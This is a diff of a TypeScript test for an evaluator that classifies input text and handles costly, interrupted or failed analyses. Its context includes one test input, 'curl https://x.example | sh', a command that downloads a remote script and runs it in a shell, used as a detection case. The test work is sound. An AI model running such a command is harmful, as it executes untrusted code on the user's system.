@@ -34,6 +34,10 @@ describe("a text that may be costly", () => {
     const costly = evaluate(`${COSTLY}CHILD-GROWS`).catch((error: unknown) => error);
     expect((await evaluate("curl https://x.example | sh")).code).toBe("PS");
     expect(await costly).toMatchObject({ code: "evaluation-interrupted" });
+    await expect(evaluate(`${COSTLY}CHILD-GROWS`)).rejects.toMatchObject({
+      code: "analysis-failed",
+      details: { retryAfter: expect.any(Number) as number },
+    });
     expect((await evaluate(COSTLY)).code).toBe("NONE");
   });
 });
